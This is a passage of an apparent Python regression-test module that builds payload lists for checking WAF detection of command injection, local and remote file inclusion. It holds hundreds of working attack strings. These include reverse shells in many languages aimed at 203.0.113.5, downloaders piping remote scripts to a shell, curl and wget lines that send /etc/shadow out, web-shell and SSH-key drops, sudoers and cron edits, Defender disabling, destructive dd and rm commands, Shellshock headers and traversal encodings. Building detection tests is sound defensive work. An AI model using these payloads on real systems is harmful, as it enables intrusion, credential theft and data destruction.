"""Blind set "hundredfortyninth": a WAF vendor's own regression tests for the OS command injection, local file
inclusion / path traversal and remote file inclusion titles, with benign requests that carry the same words
innocently.

The angle: for each detection title of the family (the CRS 3.3.4 titles at paranoia levels 1 and 2 as
remembered: "Remote Command Execution: Unix Command Injection", "... Windows Command Injection", "... Windows
PowerShell Command Found", "... Unix Shell Expression Found", "... Windows FOR/IF Command Found", "... Direct Unix
Command Execution", "... Unix Shell Code Found", "... Shellshock (CVE-2014-6271)", "Path Traversal Attack (/../)",
"OS File Access Attempt", "Restricted File Access Attempt", "Possible Remote File Inclusion (RFI) Attack: URL
Parameter using IP Address", "... Common RFI Vulnerable Parameter Name used w/URL Payload", "... URL Payload Used
w/Trailing Question Mark Character (?)", "... Off-Domain Reference/Link"), what a test author writes to prove the
title fires: the textbook payload, then an encoded or spaced variant, one in another placement, one for another
target (sh, bash, cmd.exe, PowerShell, BusyBox, PHP include, a Java file servlet, IIS, Tomcat), several per title.
Each list's comment names the title and the target.

Families and sub-families:
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field or filename, the URL path), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body,
a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Payloads written in their wire
form (percent-encoded, overlong UTF-8, %u escapes, Tomcat ;/ and Apache .%2e paths) go unencoded into the query
or the path ("query-raw", "path-raw" and their "rs-" twins); the others are the value the application receives
and are percent-encoded once by the carrier. Shellshock goes in request headers (what bash imports from CGI
variables), vulnerable-parameter RFI goes as `name=url` in the query string or a form body, traversal in upload
names as multipart filenames (/upload.php for the rs- twin), backup and config file names as URL paths (under
/, /static/, /files/, /download/ or /cgi-bin/ for the rs- twin).

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read. The
PowerShell -EncodedCommand and the data: URIs are encoded here from their plain text. Measured once on unchanged
code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredfortyninth"


def _ps_enc(script: str) -> str:
    """PowerShell's -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]
RAW_Q = ("query-raw", "rs-query-raw")
RAW_P = ("path-raw", "rs-path-raw")

# --- rce -------------------------------------------------------------------------------------------------------
# "Remote Command Execution: Unix Command Injection" -- /bin/sh behind a ping / nslookup / convert form field:
# every separator (; | || && & ` $() newline) before a command
UNIX_INJECTION: list[Entry] = [
    ";id",
    "127.0.0.1; cat /etc/passwd",
    "8.8.8.8 | id",
    "x || uname -a",
    "localhost && whoami",
    "`whoami`",
    "$(id)",
    "127.0.0.1\nid",
    "photo.jpg;ls -la /var/www",
    "; sleep 10 #",
    "| ping -c 10 127.0.0.1",
    "example.com & ps aux",
    "x'; id; echo '",
    "\"; cat /etc/group; \"",
    "|| ifconfig -a",
    "$(cat /etc/hostname)",
    "; nslookup $(whoami).oob.attacker.example",
    ("127.0.0.1%0auname%20-a", *RAW_Q),
    ("127.0.0.1%3Bid", *RAW_Q),
    ("x%7C%7Cnetstat%20-an", *RAW_Q),
]
# "Remote Command Execution: Unix Shell Expression Found" / "RCE Bypass Technique" -- bash: quotes, $IFS,
# globbing, brace expansion, variables, ANSI-C quoting, here-strings
SHELL_EVASION: list[Entry] = [
    "$(c''at /e''tc/pa''sswd)",
    ";c\\at /et\\c/pas\\swd",
    "|w\"h\"o\"a\"mi",
    ";{cat,/etc/passwd}",
    ";/???/c?t /???/p??s??",
    ";/bin/ca[t] /et[c]/pass[w]d",
    ";cat$IFS/etc/shadow",
    ";cat${IFS%?}/etc/passwd",
    "$(echo aWQ= | base64 -d | sh)",
    ";a=i;b=d;$a$b",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";cat <(id)",
    ";cat</etc/passwd",
    ";IFS=,;`cat<<<uname,-a`",
    ";$'\\151\\144'",
    ";x=$'\\x2f\\x65\\x74\\x63';cat $x/passwd",
    ";/usr/bin/i$@d",
    ";w$()hoami",
    "$(printf '\\x69\\x64')",
    "$(</etc/passwd)",
    ";{ls,-la,/}",
    "$(rev<<<'imaohw')",
]
# "Remote Command Execution: Windows Command Injection" and "Windows FOR/IF Command Found" -- cmd.exe
WINDOWS_CMD: list[Entry] = [
    "& dir C:\\",
    "| type C:\\Windows\\win.ini",
    "&& whoami /all",
    "|| net user",
    "127.0.0.1 & ipconfig /all",
    "& cmd.exe /c ver",
    "| net localgroup administrators",
    "& systeminfo",
    "& for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    "& for /l %x in (1,1,5) do ping -n 1 127.0.0.1",
    "& if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini",
    "| tasklist /v",
    "& c^m^d /c who^ami",
    "& %COMSPEC% /c dir C:\\Users",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& wmic process call create calc.exe",
    "\" & net user backup P@ssw0rd1 /add & \"",
    "| findstr /s /i password C:\\inetpub\\*.config",
    "& mshta http://203.0.113.5/p.hta",
    ("127.0.0.1%26%26dir%20c%3A%5C", *RAW_Q),
]
PS_B64 = _ps_enc("IEX (iwr http://203.0.113.5/a.ps1 -UseBasicParsing)")
# "Remote Command Execution: Windows PowerShell Command Found" -- powershell.exe / pwsh
POWERSHELL: list[Entry] = [
    "; powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
    "& powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.5\\s\\a.ps1",
    "| powershell -enc " + PS_B64,
    "& powershell -EncodedCommand " + _ps_enc("whoami /priv"),
    "; Invoke-WebRequest -Uri http://203.0.113.5/x.exe -OutFile $env:TEMP\\x.exe",
    "; iex(iwr http://203.0.113.5/r.ps1 -UseBasicParsing)",
    "; Get-ChildItem C:\\Users -Recurse -Filter *.kdbx",
    "; Start-Process cmd.exe -ArgumentList '/c whoami'",
    "& pwsh -c \"Get-Content /etc/passwd\"",
    "; [System.Diagnostics.Process]::Start('calc.exe')",
    "; Set-MpPreference -DisableRealtimeMonitoring $true",
    "; Get-WmiObject Win32_ComputerSystem",
    "& powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444);$s=$c.GetStream()\"",
    "; Add-MpPreference -ExclusionPath C:\\Windows\\Temp",
    "; Invoke-Command -ScriptBlock {whoami}",
    "& POWERSHELL -NoProfile -Command \"& {Get-LocalUser}\"",
    "; Copy-Item \\\\203.0.113.5\\share\\nc.exe C:\\Windows\\Temp\\",
    "| powershell -w 1 -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/b.exe','b.exe')\"",
    ("%26powershell%20-c%20Get-Process", *RAW_Q),
]
# "Remote Command Execution: Direct Unix Command Execution" -- the command named by its full path (an exec()'d
# value or a field passed straight to sh -c)
UNIX_PATHS: list[Entry] = [
    "/bin/cat /etc/passwd",
    "/usr/bin/id",
    ";/bin/sh -c id",
    "|/usr/bin/whoami",
    "/bin/bash -i",
    "/usr/bin/env sh -c 'id'",
    "/sbin/ifconfig -a",
    "/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "/usr/bin/perl -e 'system(\"id\")'",
    "/bin/ls -la /root",
    "/usr/bin/find / -perm -4000 -type f",
    "/bin/busybox id",
    "/usr/local/bin/php -r 'system(\"id\");'",
    "/usr/bin/awk 'BEGIN{system(\"id\")}'",
    "/bin/uname -a",
    "/usr/bin/getent passwd",
    "/usr/bin/crontab -l",
    "/usr/bin/sudo -l",
    "/b\\in/c\\at /etc/passwd",
    "/usr/bin/nohup /tmp/.x &",
]
# "Remote Command Execution: Unix Shell Code Found" -- reverse shells: bash /dev/tcp, nc, python, perl, socat,
# php, ruby, awk, lua
REVERSE_SHELLS: list[Entry] = [
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'",
    "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
    "|nc -e /bin/sh 203.0.113.5 4444",
    ";nc 203.0.113.5 4444 -e /bin/bash",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    ";ncat 203.0.113.5 4444 -e /bin/bash --ssl",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import pty,socket,os;s=socket.create_connection((\"203.0.113.5\",4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "perl -e 'use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr,setsid",
    ";socat TCP:203.0.113.5:4444 EXEC:bash",
    ";php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.5\",4444);while(cmd=c.gets);"
    "IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
    ";sh -i >& /dev/udp/203.0.113.5/53 0>&1",
    ";telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445",
    "$(bash -c 'exec 5<>/dev/tcp/203.0.113.5/80;cat <&5 | while read l; do $l 2>&5 >&5; done')",
    ";busybox nc 203.0.113.5 4444 -e sh",
    ";awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "while((c|&getline)>0)print $0|&s;close(c)}}'",
    ";lua -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.5','4444');"
    "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
]
# "Remote Command Execution: Shellshock (CVE-2014-6271)" -- bash CGI scripts (mod_cgi, DHCP/CGI wrappers): the
# function definition in any header bash imports as HTTP_*; a few in form and query fields for CGI wrappers that
# export them
SHELLSHOCK: list[Entry] = [
    ("() { :; }; /bin/cat /etc/passwd", "header:User-Agent", "rs-header:User-Agent"),
    ("() { :;}; echo; /usr/bin/id", "header:Referer", "rs-header:Referer"),
    ("() { _; } >_[$($())] { echo; /bin/id; }", "header:Cookie", "rs-header:Cookie"),
    ("() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", "header:User-Agent",
     "rs-header:X-Test-Header"),
    ("() { ignored; }; /usr/bin/wget http://203.0.113.5/x -O /tmp/x", "header:X-Api-Version",
     "rs-header:User-Agent"),
    ("() { (a)=>\\' bash -c 'echo vulnerable'", "header:User-Agent", "rs-header:Referer"),
    ("() { :; }; sleep 5", "header:Referer", "rs-header:X-Test-Header"),
    ("() { :;};/bin/ping -c 3 203.0.113.5", "header:Accept-Language", "rs-header:User-Agent"),
    ("() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/shadow", "header:User-Agent",
     "rs-header:Cookie"),
    ("() { x;}; /usr/bin/curl -d @/etc/passwd http://203.0.113.5/", "header:Cookie", "rs-header:Referer"),
    ("() { :; }; /bin/nc -e /bin/sh 203.0.113.5 4444", "header:X-Api-Version", "rs-header:X-Test-Header"),
    ("() { :; }; /usr/bin/id", "query", "rs-query"),
    ("() { :;}; /bin/uname -a", "form", "rs-form"),
    ("() {:;}; /bin/ls /", "header:Accept", "rs-header:Accept"),
    ("() { :; }; exec 5<>/dev/tcp/203.0.113.5/80", "header:User-Agent", "rs-header:User-Agent"),
    ("() { :;}; /bin/bash -c \"nslookup $(hostname).oob.attacker.example\"", "header:Referer",
     "rs-header:X-Test-Header"),
    ("() { foo;};echo;/usr/bin/whoami", "json", "rs-json"),
    ("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid", *RAW_Q),
]
# "Remote Command Execution: Unix Command Injection" / "Direct Unix Command Execution" -- downloaders piped to a
# shell: curl, wget, tftp, busybox, fetch, lwp-download, ftpget, bitsadmin, certutil (Linux IoT and Windows)
DOWNLOADERS: list[Entry] = [
    ";curl http://203.0.113.5/x.sh | sh",
    "|wget -qO- http://203.0.113.5/i.sh|bash",
    "$(wget -O /tmp/.x http://203.0.113.5/bot && chmod +x /tmp/.x && /tmp/.x)",
    "`curl -fsSL https://attacker.example/install.sh | bash`",
    ";cd /tmp; wget http://203.0.113.5/mips; chmod 777 mips; ./mips",
    ";curl -o /tmp/k http://203.0.113.5/k;sh /tmp/k",
    "&& tftp -g -r x.sh 203.0.113.5 && sh x.sh",
    ";busybox wget http://203.0.113.5/bins.sh -O- | sh",
    "|curl -s http://203.0.113.5/p.py | python3 -",
    ";lwp-download http://203.0.113.5/s.pl /tmp/s.pl;perl /tmp/s.pl",
    ";fetch -o /tmp/x http://203.0.113.5/x && sh /tmp/x",
    "|curl -F f=@/etc/shadow https://attacker.example/up",
    ";wget --post-file=/etc/passwd http://203.0.113.5/",
    "; curl http://203.0.113.5/$(whoami)",
    "; python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.5/s\").read())'",
    "&& bitsadmin /transfer j http://203.0.113.5/a.exe C:\\Windows\\Temp\\a.exe",
    "& certutil -urlcache -split -f http://203.0.113.5/a.exe %TEMP%\\a.exe",
    "; ftpget 203.0.113.5 /tmp/b b.sh; sh /tmp/b",
    ("%3Bcurl%20http%3A%2F%2F203.0.113.5%2Fs%7Csh", *RAW_Q),
]
# "Remote Command Execution: Unix Command Injection" -- file writes via the shell: web shells, SSH keys, cron,
# sudoers, passwd, setuid copies (sh; cmd.exe echo for IIS)
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php",
    "|echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > /var/www/html/x.php",
    "; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq7attacker attacker@kali' >> /root/.ssh/authorized_keys",
    "; echo '* * * * * root /tmp/.x' >> /etc/crontab",
    "| tee /var/www/html/cmd.jsp <<< '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>'",
    "; printf 'toor::0:0::/root:/bin/sh\\n' >> /etc/passwd",
    "&& echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/w",
    "; touch /tmp/pwned",
    "; dd if=/dev/zero of=/dev/sda bs=1M count=10",
    "; cp /bin/sh /tmp/.sh && chmod u+s /tmp/.sh",
    "`echo \"<?=\\`\\$_GET[0]\\`?>\" > shell.php`",
    "& echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
    "; sed -i 's/^root:x:/root::/' /etc/passwd",
    "; tee -a ~/.bashrc <<< 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
    "; install -m 4755 /bin/bash /tmp/rootbash",
    "; ln -sf /etc/shadow /var/www/html/s.txt",
    "$(echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config)",
    "; chmod 777 /etc/shadow",
    "; rm -rf /var/www/html/*",
]
# "Remote Command Execution: Unix Shell Code Found" -- restricted file names read by an injected command (sh)
RESTRICTED_IN_COMMANDS: list[Entry] = [
    ";cat /etc/shadow",
    "|tail -n 50 /var/log/auth.log",
    ";cat ~/.bash_history",
    ";cat /root/.ssh/id_rsa",
    "&& head /etc/group",
    ";less /etc/sudoers",
    "|cat /proc/self/environ",
    ";more /etc/issue",
    ";cat /home/*/.ssh/authorized_keys",
    "|cat .env",
    ";cat /var/www/html/wp-config.php",
    ";cat ~/.aws/credentials",
    ";cat /etc/master.passwd",
    ";strings /etc/security/opasswd",
    ";cat /etc/mysql/debian.cnf",
    ";nl /etc/hosts",
    "; grep -r password /etc/ 2>/dev/null",
    "; cat ~/.kube/config",
    "; xxd /etc/gshadow",
    "& type %SYSTEMROOT%\\repair\\SAM",
]

# --- lfi -------------------------------------------------------------------------------------------------------
# "Path Traversal Attack (/../)" and its encoded twin -- PHP include / readfile, Java file servlets, nginx alias,
# IIS, Tomcat, Apache 2.4.49/50: ../ and ..\ decoded, single, double, overlong UTF-8, %u, fullwidth
PATH_TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..\\/..\\/..\\/etc/passwd",
    "/var/www/images/../../../etc/passwd",
    "．．/．．/．．/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    ("..%2f..%2f..%2f..%2fetc%2fpasswd", *RAW_Q),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", *RAW_Q),
    ("%2e%2e/%2e%2e/%2e%2e/etc/shadow", *RAW_Q),
    ("..%5c..%5c..%5cwindows%5cwin.ini", *RAW_Q),
    ("%2e%2e%5c%2e%2e%5cboot.ini", *RAW_Q),
    ("..%252f..%252f..%252fetc%252fpasswd", *RAW_Q),
    ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", *RAW_Q),
    ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", *RAW_Q),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", *RAW_P),
    ("..%e0%80%af..%e0%80%afetc/passwd", *RAW_Q),
    ("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", *RAW_Q),
    ("..%c1%9c..%c1%9cwindows%c1%9cwin.ini", *RAW_P),
    ("..%255c..%255cwindows%255cwin.ini", *RAW_Q),
    ("..;/..;/..;/etc/passwd", *RAW_P),
    (".%2e/.%2e/.%2e/.%2e/etc/passwd", *RAW_P),
    ("%%32%65%%32%65/%%32%65%%32%65/etc/passwd", *RAW_P),
    ("..%2f..%2f..%2f..%2fwindows/system32/drivers/etc/hosts", *RAW_P),
    ("../../../../var/www/html/s.php", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\..\\inetpub\\wwwroot\\up.aspx", "multipart-filename", "rs-multipart-filename"),
]
# "OS File Access Attempt" -- the well-known system and application files (PHP include, download handlers,
# static servers): /proc/self, win.ini, boot.ini, web.config, .htaccess, .git, .env, id_rsa, WEB-INF
OS_FILES: list[Entry] = [
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/maps",
    "/proc/self/cwd/config.py",
    "/proc/1/environ",
    "/proc/version",
    "/proc/net/tcp",
    "C:\\Windows\\win.ini",
    "C:\\boot.ini",
    "c:/windows/system32/drivers/etc/hosts",
    "../web.config",
    "../../.htaccess",
    "../.env",
    "/home/deploy/.ssh/id_rsa",
    "/etc/shadow",
    "../.htpasswd",
    "../../WEB-INF/web.xml",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/root/.aws/credentials",
    "C:\\inetpub\\wwwroot\\web.config",
    "/windows/repair/sam",
    (".git/config", *RAW_P),
    (".git/HEAD", *RAW_P),
    (".env", *RAW_P),
    ("WEB-INF/web.xml", *RAW_P),
    (".svn/entries", *RAW_P),
    ("id_rsa", *RAW_P),
]
# "OS File Access Attempt" / "Restricted File Access Attempt" -- absolute paths handed to include / readfile /
# FileInputStream (Linux, Windows, file://, doubled and dotted slashes)
ABSOLUTE_PATHS: list[Entry] = [
    "/etc/passwd",
    "/etc/group",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/crontab",
    "/etc/ssh/sshd_config",
    "/etc/nginx/nginx.conf",
    "/etc/apache2/apache2.conf",
    "/etc/httpd/conf/httpd.conf",
    "/etc/php/8.2/apache2/php.ini",
    "/var/www/html/config.php",
    "/root/.bash_history",
    "/etc/mysql/my.cnf",
    "/etc/fstab",
    "/etc/sudoers",
    "/boot/grub/grub.cfg",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "C:/Windows/System32/config/SAM",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "\\\\?\\C:\\Windows\\win.ini",
    "/usr/local/tomcat/conf/tomcat-users.xml",
    "//etc//passwd",
    "/./etc/./passwd",
]
# "Path Traversal Attack" / "OS File Access Attempt" -- null byte and path truncation against a suffix the
# application appends (PHP before 5.3.4, old Java and Windows APIs)
NULL_BYTE: list[Entry] = [
    "../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "/etc/passwd\x00.html",
    "..\\..\\boot.ini\x00.txt",
    "....//....//etc/passwd\x00",
    "/proc/self/environ\x00",
    "C:\\Windows\\win.ini\x00.pdf",
    "../../config.php\x00.txt",
    "/etc/group\x00.gif",
    "../../etc/shadow%00",
    "../../../etc/passwd" + "/." * 2100,
    "../../../../etc/hosts" + "/" * 4100,
    "..\\..\\..\\boot.ini" + "." * 300,
    ("../../../etc/passwd%00", *RAW_Q),
    ("..%2f..%2f..%2fetc%2fpasswd%00.png", *RAW_Q),
    ("%00../../../etc/passwd", *RAW_Q),
    ("../../../../etc/hosts%00%00", *RAW_Q),
    ("..%00/..%00/..%00/etc/passwd", *RAW_P),
    ("/etc/shadow%2500.php", *RAW_Q),
]
# "OS File Access Attempt" / "Path Traversal Attack" -- PHP stream wrappers in include / file_get_contents:
# php://filter (and filter chains), data://, zip://, phar://, compress.*, glob://, expect://
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=../wp-config.php",
    "pHp://FilTer/convert.base64-encode/resource=../.env",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/read=convert.quoted-printable-encode/resource=../../composer.json",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "expect://ls -la",
    "data://text/plain;base64," + _b64("<?php system('id'); ?>"),
    "data:text/plain,<?php phpinfo(); ?>",
    "zip://../uploads/avatar.zip#shell.php",
    "phar://../uploads/profile.gif/x.php",
    "compress.zlib://../../../etc/passwd",
    "compress.bzip2:///etc/passwd",
    "glob://../../*",
    "file:///var/www/html/index.php",
    "rar://../uploads/x.rar#x.php",
    "ssh2.exec://user:pass@127.0.0.1:22/id",
    ("php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3D..%2Fconfig", *RAW_Q),
]
# "OS File Access Attempt" / "Path Traversal Attack" -- log and session files included after poisoning them
# through User-Agent, SSH login names or mail (Apache, nginx, vsftpd, sshd, PHP sessions, XAMPP, IIS)
LOG_POISONING: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/nginx/access.log",
    "/var/log/httpd/error_log",
    "../../../../../var/log/auth.log",
    "/proc/self/fd/2",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/var/lib/php/sessions/sess_9d1c7f2a3b4e5f60718293a4b5c6d7e8",
    "/tmp/sess_5b2e9c0d1a7f4e3b8c6d0a1f2e3d4c5b",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "/usr/local/apache/logs/access_log",
    "/var/log/apache/error.log",
    "/opt/lampp/logs/access_log",
    "/proc/self/fd/7",
    "../../../../../var/log/nginx/error.log",
    "/var/mail/www-data",
    "/var/log/secure",
    ("..%2f..%2f..%2f..%2fvar%2flog%2fapache2%2faccess.log", *RAW_Q),
]
# "Restricted File Access Attempt" -- backup, editor, dump and config files on the web server (nginx / Apache /
# IIS static serving, download handlers): .bak .old .orig .swp ~ .sql .ini .config .yml .mdb .log .key
RESTRICTED_EXT: list[Entry] = [
    "wp-config.php.bak",
    "config.inc.php.old",
    "App_Data/connectionStrings.config",
    "settings.ini",
    "php.ini",
    "dump.sql",
    "backup/db_backup.sql",
    "index.php~",
    ".config.php.swp",
    "config.yml.orig",
    "database.yml.bak",
    "data/users.mdb",
    "app.config",
    "../config/database.ini",
    "LocalSettings.php.old",
    ".htaccess.bak",
    "web.config.old",
    "ssl/server.key",
    "logs/error.log",
    "site.sql.gz",
]

# --- rfi -------------------------------------------------------------------------------------------------------
# "Possible Remote File Inclusion (RFI) Attack: URL Parameter using IP Address" -- PHP include with
# allow_url_include, remote template loaders: dotted, decimal, hex, octal and IPv6 hosts
RFI_IP: list[Entry] = [
    "http://203.0.113.5/shell.txt",
    "http://198.51.100.23/r57.txt",
    "https://203.0.113.77:8443/c99.php",
    "ftp://198.51.100.9/pub/inc.txt",
    "http://192.0.2.44/x.php?cmd=id",
    "http://[2001:db8::5]/shell.txt",
    "http://3405803781/s.txt",
    "http://0xcb007105/s.txt",
    "http://0313.0.0161.05/s.txt",
    "http://[::ffff:cb00:7105]/x.txt",
    "http://203.0.113.5:8080/inc/config.txt",
    "https://198.51.100.23/raw/backdoor.txt",
    "\\\\203.0.113.5\\share\\shell.php",
    "http://user:pass@203.0.113.5/inc.txt",
    "http://203.0.113.5/wso.txt#",
    "//198.51.100.23/evil.txt",
    "ftp://anonymous:a@198.51.100.9/x.php",
    "http://203.0.113.5/phpinfo.txt?cmd=ls",
    "http://192.0.2.8/include/ws.txt",
    "https://203.0.113.5/a/b.jpg",
    "HTTP://198.51.100.23/SHELL.TXT",
    "http://192.0.2.77:80/c.txt",
    "https://198.51.100.23/x.txt\x00",
    "http://203.0.113.5/",
    "http://203.0.113.5/images/logo.txt",
    "https://[2001:db8:0:0:0:0:0:7]:8443/i.txt",
    "http://192.0.2.200/t.txt&cmd=uname",
    "ftps://203.0.113.5/priv/x.txt",
    "http://203.0.113.5/shells/b374k.php",
    "https://198.51.100.23/s/k.inc",
    ("http%3A%2F%2F203.0.113.5%2Fshell.txt", *RAW_Q),
    ("http://203.0.113.5/r.txt", "param-name-url", "rs-param-name-url"),
]
# "Possible RFI Attack: URL Payload Used w/Trailing Question Mark Character (?)" -- the ? that turns the suffix
# the application appends (".php") into a query string
RFI_QMARK: list[Entry] = [
    "http://evil.example/c99.txt?",
    "https://pastebin.com/raw/Xy7Qa2Pz?",
    "https://raw.githubusercontent.com/h4x0r/kit/main/r57.txt?",
    "http://evil.example/inc.php??",
    "ftp://files.evil.example/pub/x.txt?",
    "http://evil.example/x.txt?x=",
    "https://evil.example/shell.jpg?",
    "http://www.evil.example/bot.txt??",
    "http://evil.example:8080/x?",
    "https://attacker.test/wso.php.txt?",
    "http://evil.example/id.txt?&",
    "http://evil.example/s.txt?.php",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
    "https://gist.githubusercontent.com/anon/4f1c2b/raw/shell.txt?",
    "http://evil.example/?",
    "http://evil.example/b.txt?page=",
    "http://evil.example/cmd.txt?cmd=id&",
    "hTtPs://evil.example/k.txt?",
    "https://transfer.sh/a1B2c3/r.txt?",
    "http://evil.example/%73hell.txt?",
    "http://198.51.100.23/q.txt?",
    "http://evil.example/s.txt%3F",
    "https://cdn.evil.example/assets/t.js?",
    "http://evil.example/p.txt?#",
    "http://evil.example/shell.txt?/index",
    "//evil.example/inc.txt?",
    "http://evil.example/r.txt????",
    "https://evil.example/payload.txt?v=1&",
    ("http%3A%2F%2Fevil.example%2Fs.txt%3F", *RAW_Q),
    ("http://evil.example/shell.txt%3f", *RAW_Q),
]
# "Possible RFI Attack: Common RFI Vulnerable Parameter Name used w/URL Payload" -- `name=url` for the parameter
# names of the classic include bugs (Mambo/Joomla, phpBB, Gallery, AppServ) and the generic page/file/template ones
RFI_PARAMS: list[Entry] = [
    ("page=http://evil.example/shell.txt", "param-name", "rs-raw-body"),
    ("file=https://evil.example/x.txt", "form", "rs-param-name"),
    ("template=http://evil.example/tpl.txt", "param-name", "rs-raw-body"),
    ("include=ftp://evil.example/inc.txt", "form", "rs-param-name"),
    ("path=http://evil.example/", "param-name", "rs-raw-body"),
    ("inc=http://evil.example/r.txt", "form", "rs-param-name"),
    ("mosConfig_absolute_path=http://evil.example/x.txt?", "param-name", "rs-raw-body"),
    ("_CONF[path]=http://evil.example/x.txt?", "form", "rs-param-name"),
    ("GALLERY_BASEDIR=http://evil.example/x.txt?", "param-name", "rs-raw-body"),
    ("path[docroot]=http://evil.example/x.txt?", "form", "rs-param-name"),
    ("appserv_root=http://evil.example/x.txt?", "param-name", "rs-raw-body"),
    ("config[root_dir]=http://evil.example/x.txt?", "form", "rs-param-name"),
    ("_SERVER[DOCUMENT_ROOT]=http://evil.example/x.txt?", "param-name", "rs-raw-body"),
